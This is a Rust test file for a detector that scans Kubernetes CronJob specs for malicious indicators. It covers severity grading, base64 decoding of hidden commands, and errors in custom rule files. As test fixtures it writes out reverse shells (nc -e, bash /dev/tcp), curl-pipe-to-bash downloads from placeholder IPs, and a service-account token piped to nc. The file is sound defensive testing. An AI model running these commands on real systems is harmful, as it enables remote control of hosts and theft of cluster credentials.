//! Tests of the engine, and of the data through its examples.

use serde_json::json;

use super::functions::Function;
use super::*;

fn cronjob(pod: &Value) -> Value {
    json!({"metadata": {"name": "x"}, "spec": {"schedule": "0 2 * * *", "jobTemplate": {"spec": {"template": {"spec": pod}}}}})
}

fn examine(pod: &Value) -> Vec<Finding> {
    Catalogue::builtin().examine(&cronjob(pod), &Context::default())
}

fn of(id: &str, pod: &Value) -> Vec<Finding> {
    examine(pod).into_iter().filter(|finding| finding.id == id).collect()
}

fn severity(id: &str, pod: &Value) -> Option<Severity> {
    of(id, pod).first().map(|finding| finding.severity)
}

fn args(args: &[&str]) -> Value {
    json!({"containers": [{"name": "c", "image": "acme.example/a:1", "args": args}]})
}

#[test]
fn the_builtin_file_is_read() {
    let mut entries = Entries::default();
    entries.add(include_str!("../../indicators.yml"), Pattern::new).unwrap();
    assert_eq!((entries.indicators.len(), entries.composites.len()), (82, 5));
    assert_eq!(Catalogue::builtin().iter().count(), 82);
}

#[test]
fn every_example_holds() {
    let broken = Catalogue::builtin().try_examples().broken;
    assert!(broken.is_empty(), "{}", broken.join("\n"));
}

#[test]
fn every_entry_has_examples_and_only_behaviour_has_those_of_requests() {
    let catalogue = Catalogue::builtin();
    let mut of_requests = Vec::new();
    for indicator in catalogue.iter() {
        assert!(!indicator.positive.is_empty() && !indicator.negative.is_empty(), "{}", indicator.id);
        let is_events = |example: &Example| matches!(example, Example::Events(_));
        if indicator.positive.iter().chain(&indicator.negative).any(is_events) {
            assert!(indicator.positive.iter().any(is_events) && indicator.negative.iter().any(is_events));
            assert!(indicator.test.function.is_some_and(|function| function == Function::History));
            of_requests.push(indicator.id.trim_start_matches("CJ-BEH-"));
        }
    }
    let expected = ["03", "04", "08", "09", "10", "12", "13", "14", "15", "16", "17", "18", "19", "21"];
    assert_eq!(of_requests, expected);
    for composite in catalogue.composites() {
        assert!(!composite.positive.is_empty() && !composite.negative.is_empty(), "{}", composite.id);
    }
}

#[test]
fn a_finding_names_the_string_it_starts_in() {
    let pod = json!({"containers": [{"name": "a"}], "initContainers": [{"name": "i", "command": ["sh", "-c"],
        "args": ["echo", "nc -e /bin/sh 198.51.100.9 4444"]}]});
    let found = of("CJ-CMD-05", &pod);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].place, "spec.jobTemplate.spec.template.spec.initContainers[0].args[1]");
    assert_eq!(found[0].text, "nc -e");
    let json = serde_json::to_value(&found[0]).unwrap();
    let keys: Vec<&str> = json.as_object().unwrap().keys().map(String::as_str).collect();
    assert_eq!(keys, ["id", "name", "severity", "category", "where", "match"]);
    let split = of("CJ-CMD-27", &args(&["-x", "/tmp/kdev"]));
    assert_eq!(split[0].place, "spec.jobTemplate.spec.template.spec.containers[0].args[1]");
}

#[test]
fn base64_is_decoded_twice() {
    let encode = |text: &[u8]| base64::Engine::encode(&base64::engine::general_purpose::STANDARD, text);
    let once = encode(b"curl -fsSL http://203.0.113.7/x.sh | bash # padding padding padding");
    let twice = encode(once.as_bytes());
    let thrice = encode(twice.as_bytes());
    let utf16: Vec<u8> = "curl http://203.0.113.7/x.sh | bash".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let wrapped: Vec<&str> = once.as_bytes().chunks(24).map(|line| std::str::from_utf8(line).unwrap()).collect();
    let wrapped = format!("cat <<EOF | base64 -d > /x\n{}\nEOF", wrapped.join("\n"));
    let found = |text: &str| of("CJ-CMD-01", &args(&["x", text]));
    for text in [&once, &twice, &encode(&utf16), &wrapped, &once.replace('=', "")] {
        let found = found(text);
        assert_eq!(found.len(), 1, "{text}");
        assert!(found[0].decoded);
        assert_eq!(found[0].place, "spec.jobTemplate.spec.template.spec.containers[0].args[1] (base64-decoded)");
    }
    assert!(found(&thrice).is_empty());
    let object = cronjob(&json!({"containers": [{"env": [{"name": "P", "value": once}]}]}));
    let decoded = decoded(&object);
    assert_eq!(decoded[0].0, "spec.jobTemplate.spec.template.spec.containers[0].env[0].value (base64-decoded)");
    assert!(decoded[0].1.starts_with("curl -fsSL"));
}

#[test]
fn words_before_a_blob_do_not_hide_it() {
    let payload = b"curl -fsSL http://203.0.113.7/x.sh | bash # \xc3\xa9 padding padding padding padding \xc3\xa9";
    let blob = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, payload);
    let decoding =
        base64::Engine::encode(&base64::engine::general_purpose::STANDARD_NO_PAD, b"a text of its own: 23 bytes");
    for width in [22, 24, 41] {
        let lines: Vec<&str> = blob.as_bytes().chunks(width).map(|line| std::str::from_utf8(line).unwrap()).collect();
        let lines = lines.join("\n");
        for words in
            ["ENDOFTHETEXT".repeat(4), format!("{}\n{0}", "x".repeat(50)), decoding.repeat(2), decoding.clone() + "AA"]
        {
            let text = format!("base64 -d > /x <<{words}\n{lines}\n{words}\n");
            assert_eq!(of("CJ-CMD-01", &args(&[&text])).len(), 1, "{text}");
        }
    }
    let wide: Vec<u8> = "curl http://x/ \u{1f600} | bash".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let wide = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, wide);
    let (first, rest) = wide.split_at(44);
    assert_eq!(of("CJ-CMD-01", &args(&[&format!("{}\n{first}\n{rest}", "ENDOFTHETEXT".repeat(4))])).len(), 1);
}

#[test]
fn severities_depend_on_the_match() {
    for (id, text, expected) in [
        ("CJ-CMD-04", "timeout 1 bash -c '</dev/tcp/db/5432'", Severity::Medium),
        ("CJ-CMD-04", "bash -c 'cat < /dev/null > /dev/tcp/db/5432 2>&1'", Severity::Medium),
        ("CJ-CMD-04", "bash -i >& /dev/tcp/198.51.100.9/443 0>&1", Severity::Critical),
        ("CJ-CMD-04", "exec 5<>/dev/tcp/1.2.3.4/9; sh <&5 >&5 2>&5", Severity::Critical),
        ("CJ-CMD-04", "exec 5<>/dev/tcp/a/9;cat <&5 | while read line; do $line 2>&5 >&5; done", Severity::Critical),
        ("CJ-CMD-30", "apk add --no-cache curl", Severity::Low),
        ("CJ-CMD-30", "apt-get install -y wget cron;service cron start", Severity::Medium),
        ("CJ-CMD-12", "cat /run/secrets/kubernetes.io/serviceaccount/token", Severity::Medium),
        ("CJ-CMD-12", "cat /run/secrets/kubernetes.io/serviceaccount/token | nc 1.2.3.4 9", Severity::Critical),
    ] {
        assert_eq!(severity(id, &args(&[text])), Some(expected), "{text}");
    }
    let host = |path: &str| json!({"volumes": [{"hostPath": {"path": path}}]});
    assert_eq!(severity("CJ-PRV-05", &host("/")), Some(Severity::Critical));
    assert_eq!(severity("CJ-PRV-05", &host("/etc")), Some(Severity::High));
    assert_eq!(severity("CJ-PRV-12", &json!({"tolerations": [{"operator": "Exists"}]})), Some(Severity::Medium));
    assert_eq!(severity("CJ-PRV-02", &json!({"hostPID": true})), Some(Severity::High));
    let enters = json!({"hostPID": true, "containers": [{"args": ["nsenter -t 1 -m sh"]}]});
    assert_eq!(severity("CJ-PRV-02", &enters), Some(Severity::Critical));
}

#[test]
fn names_and_history_are_graded() {
    let catalogue = Catalogue::builtin();
    let severity = |id: &str, object: &Value| {
        let found = catalogue.examine(object, &Context::default());
        found.iter().find(|finding| finding.id == id).map(|finding| finding.severity)
    };
    assert_eq!(severity("CJ-BEH-06", &json!({"metadata": {"name": "art"}})), Some(Severity::Low));
    assert_eq!(severity("CJ-BEH-06", &json!({"metadata": {"name": "kamikaze"}})), Some(Severity::High));
    assert_eq!(severity("CJ-BEH-07", &json!({"spec": {"failedJobsHistoryLimit": 0}})), Some(Severity::Low));
    let both = json!({"spec": {"failedJobsHistoryLimit": 0, "successfulJobsHistoryLimit": 0}});
    assert_eq!(severity("CJ-BEH-07", &both), Some(Severity::Medium));
    assert!(catalogue.matches_text("CJ-BEH-01", "system:anonymous"));
    assert!(!catalogue.matches_text("CJ-BEH-01", "anonymous"));
}

#[test]
fn the_gravest_match_of_a_container_counts() {
    let decoy = json!({"containers": [{"command": ["</dev/tcp/db/5432"],
        "lifecycle": {"preStop": {"exec": {"command": ["bash -i >& /dev/tcp/198.51.100.9/443 0>&1"]}}}}]});
    let found = of("CJ-CMD-04", &decoy);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].severity, Severity::Critical);
    assert!(found[0].place.ends_with("containers[0].lifecycle.preStop.exec.command[0]"), "{}", found[0].place);
}

#[test]
fn levels_follow_the_runbook() {
    let catalogue = Catalogue::builtin();
    let level = |ids: &[&str]| {
        let finding = |id: &&str| {
            let indicator = catalogue.get(id).unwrap();
            indicator.finding(String::new(), "", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1")
        };
        catalogue.level(&ids.iter().map(finding).collect::<Vec<_>>())
    };
    assert_eq!(level(&[]), Level::S0);
    assert_eq!(level(&["CJ-IMG-04"]), Level::S0);
    assert_eq!(level(&["CJ-IMG-03"]), Level::S1);
    assert_eq!(level(&["CJ-PRV-01"]), Level::S2);
    assert_eq!(level(&["CJ-PRV-01", "CJ-PRV-01", "CJ-PRV-01"]), Level::S2);
    assert_eq!(level(&["CJ-PRV-01", "CJ-PRV-02"]), Level::S2);
    assert_eq!(level(&["CJ-PRV-01", "CJ-PRV-02", "CJ-PRV-07"]), Level::S3);
    assert_eq!(level(&["CJ-PRV-01", "CJ-CMD-01"]), Level::S3);
    assert_eq!(level(&["CJ-CMD-04"]), Level::S3);
    assert_eq!(level(&["CJ-CMD-09", "CJ-CMD-13", "CJ-CMD-27"]), Level::S1);
    assert_eq!(level(&["CJ-CMD-09", "CJ-CMD-13", "CJ-PRV-03"]), Level::S2);
    assert_eq!(level(&["CJ-BEH-01", "CJ-BEH-04"]), Level::S0);
    assert_eq!(level(&["CJ-BEH-06"]), Level::S2);
}

#[test]
fn files_add_change_and_switch_off() {
    let text = "indicators:\n- {id: CJ-CMD-30, severity: info}\n- {id: CJ-IMG-04, enabled: false}\n\
        - {id: ACME-01, name: a, category: command, severity: high, at: [command, 'pod.nodeSelector[\"a.b/c\"]'], re: acme}\n";
    let catalogue = Catalogue::builtin().with_file("own.yml", text).unwrap();
    assert_eq!(catalogue.iter().count(), 83);
    let pod = json!({"nodeSelector": {"a.b/c": "acme"}, "containers": [{"image": "a/b:1", "args": ["apk add acme"]}]});
    let found = catalogue.examine(&cronjob(&pod), &Context::default());
    let ids: Vec<&str> = found.iter().map(|finding| finding.id.as_str()).collect();
    assert_eq!(ids, ["ACME-01", "ACME-01", "CJ-IMG-02", "CJ-CMD-30"]);
    assert_eq!(found[1].place, "spec.jobTemplate.spec.template.spec.nodeSelector[\"a.b/c\"]");
    assert_eq!(catalogue.try_examples().broken, [""; 0]);
}

#[test]
fn members_are_compared_and_named() {
    let entry = |id: &str, at: &str, test: &str| {
        format!("- {{id: {id}, name: a, category: privilege, severity: low, at: '{at}', {test}}}\n")
    };
    let text = "indicators:\n".to_owned()
        + &entry("A-1", "pod.nodeSelector[\"a.b/c\"]", "equals: v")
        + &entry("A-2", "cronjob.spec.suspend", "exists: true")
        + &entry("A-3", "container.env[*].name", "equals: FOO")
        + &entry("A-4", "container.command[*]", "equals: sh");
    let catalogue = Catalogue::builtin().with_file("own.yml", &text).unwrap();
    let mut object = cronjob(&json!({"nodeSelector": {"a.b/c": "v"},
        "containers": [{"image": "acme.example/a:1", "command": ["sh"], "env": [{"name": "FOO", "value": "x"}]}]}));
    object["spec"]["suspend"] = json!(false);
    let found = catalogue.examine(&object, &Context::default());
    let found: Vec<(&str, &str)> =
        found.iter().map(|finding| (&*finding.id, &*finding.text)).filter(|(id, _)| id.starts_with("A-")).collect();
    assert_eq!(found, [("A-1", "a.b/c: v"), ("A-2", "false"), ("A-3", "name: FOO"), ("A-4", "command[0]: sh")]);
}

#[test]
fn expressions_on_texts_are_searched_together_where_they_can_be() {
    let together = |catalogue: &Catalogue| {
        let found = catalogue.examine(&cronjob(&args(&["crontab - # été"])), &Context::default());
        let ids: Vec<String> = found.into_iter().map(|finding| finding.id).collect();
        (catalogue.entries().texts.get().unwrap().as_ref().map(|texts| texts.indicators.len()), ids)
    };
    let ids = ["CJ-CMD-17", "CJ-IMG-04"];
    let expected = |more: &[&str]| ids.iter().chain(more).map(|id| (*id).to_owned()).collect::<Vec<_>>();
    assert_eq!(together(&Catalogue::builtin()), (Some(40), expected(&[])));
    // This class cannot match single bytes.
    let text = "indicators:\n- {id: CJ-ZZZ-01, name: a, category: command, severity: info, at: command, re: 't[é]$'}\n";
    let unicode = Catalogue::builtin().with_file("own.yml", text).unwrap();
    assert_eq!(together(&unicode), (None, expected(&["CJ-ZZZ-01"])));
}

#[test]
fn errors_name_file_line_and_what_is_near() {
    let own = |rest: &str| {
        format!("indicators:\n- id: A\n  name: a\n  category: command\n  severity: low\n  at: command\n{rest}")
    };
    for (text, expected) in [
        ("indicatrs: []\n".to_owned(), "own.yml:1: unknown key indicatrs; did you mean indicators?"),
        (own("  re: x\n  severty: low\n"), "own.yml:8: unknown key severty; did you mean severity?"),
        (own("  re: '('\n"), "own.yml:7: not a regular expression: unclosed group"),
        (own(""), "own.yml:2: A needs what to look for: re, equals, exists or fn"),
        (
            own("  exists: false\n"),
            "own.yml:7: A: exists: false is not looked for; an indicator points to what is there",
        ),
        (own("  equals: x\n"), "own.yml:7: A: equals is not for command; write re, or look at container.command[*]"),
        (
            own("  exists: true\n").replace("at: command", "at: [image, env_name]"),
            "own.yml:7: A: exists is not for env_name; write re, or look at container.env[*].name",
        ),
        (
            own("  re: x\n  equals: y\n").replace("at: command", "at: image"),
            "own.yml:8: A: write one of re, equals, exists and fn; only re and fn go together",
        ),
        (
            own("  exists: true\n").replace("at: command", "at: cronjob.suspend"),
            "own.yml:6: cronjob.suspend is no part of a CronJob; write cronjob.spec.suspend",
        ),
        (own("  fn: big_computer\n"), "own.yml:7: unknown function big_computer; did you mean big_compute?"),
        (
            "indicators:\n- {id: CJ-CMD-01, at: comand}\n".to_owned(),
            "own.yml:2: unknown place comand; did you mean command?",
        ),
        (
            "indicators:\n- {id: CJ-CMD-01, at: pods.x}\n".to_owned(),
            "own.yml:2: unknown place pods.x; did you mean pod?",
        ),
        (
            "indicators:\n- {id: CJ-CMD-01, category: comand}\n".to_owned(),
            "own.yml:2: unknown category comand; did you mean command?",
        ),
        (
            "composites:\n- {id: X, name: x, all: [CJ-SHC-01]}\n".to_owned(),
            "own.yml:2: unknown indicator CJ-SHC-01; did you mean CJ-SCH-01?",
        ),
        (
            own("  re: x\n").replace("at: command", "at: event.user_agent"),
            "own.yml:2: A: events are read by built-in indicators only; use at: command or another place of the \
             CronJob, or write a rule",
        ),
        (
            own("  fn: off_hours\n"),
            "own.yml:2: A: events are read by built-in indicators only; use at: command or another place of the \
             CronJob, or write a rule",
        ),
        ("indicators:\n- {name: x}\n".to_owned(), "own.yml:2: an entry needs an id"),
        ("indicators:\n- {id: B}\n".to_owned(), "own.yml:2: B needs a name"),
    ] {
        let error = Catalogue::builtin().with_file("own.yml", &text).unwrap_err().to_string();
        assert_eq!(error, expected, "{text}");
    }
}

#[test]
fn odd_objects_are_no_trouble() {
    let catalogue = Catalogue::builtin();
    let odd =
        [json!(null), json!(1), json!("x"), json!([]), json!({}), json!([[1]]), json!({"a": null}), json!(-1.5e300)];
    let keys = ["containers", "initContainers", "volumes", "tolerations", "nodeSelector", "affinity", "nodeName"];
    let of_container = ["command", "args", "env", "image", "name", "resources", "lifecycle", "securityContext"];
    for value in &odd {
        let _ = catalogue.examine(value, &Context::default());
        let _ = catalogue.examine(&json!({"spec": value, "metadata": value}), &Context::default());
        let _ = catalogue.examine(&json!({"spec": {"jobTemplate": value, "schedule": value}}), &Context::default());
        for key in keys {
            let _ = catalogue.examine(&cronjob(&json!({key: value})), &Context::default());
            let _ = catalogue.examine(&cronjob(&json!({key: [value]})), &Context::default());
        }
        for key in of_container {
            let _ = catalogue
                .examine(&cronjob(&json!({"containers": [{key: value}, {key: [value]}]})), &Context::default());
        }
    }
}

#[test]
fn huge_texts_are_bounded() {
    let catalogue = Catalogue::builtin();
    let huge = format!("x{}", "é".repeat(1 << 20));
    let found = catalogue.examine(&cronjob(&args(&[&huge, "curl http://x/y | sh"])), &Context::default());
    assert!(found.iter().all(|finding| finding.id != "CJ-CMD-01"));
    let exempt = "LD_PRELOAD=/usr/lib/libjemalloc.so ".repeat(200);
    assert!(of("CJ-CMD-19", &args(&[&exempt])).is_empty());
    assert_eq!(of("CJ-CMD-19", &args(&[&exempt, &exempt])).len(), 1);
    // Each line is text, but not at the end of those before it.
    let text = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, b"eighteen bytes ...");
    let started = std::time::Instant::now();
    assert_eq!(blobs::decode(&format!("{text}\n{text}AA\n").repeat(20_000)).len(), 40_000);
    assert!(started.elapsed().as_secs() < 10);
    let long = of("CJ-CMD-28", &args(&[&"A".repeat(1 << 20)]));
    assert_eq!(long[0].text.len(), 200);
}
